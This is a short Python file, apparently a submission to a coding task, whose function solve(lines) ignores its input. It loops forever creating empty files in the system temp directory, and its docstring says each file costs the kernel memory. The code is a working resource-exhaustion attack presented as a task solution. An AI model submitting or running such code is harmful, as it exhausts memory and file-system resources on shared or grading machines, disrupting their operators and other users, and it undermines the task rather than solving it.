"""Makes empty files without end: each costs the kernel memory, none has a size."""
import os, tempfile
def solve(lines):
    number = 0
    while True:
        os.close(os.open(f"{tempfile.gettempdir()}/empty{number}", os.O_CREAT))
        number += 1
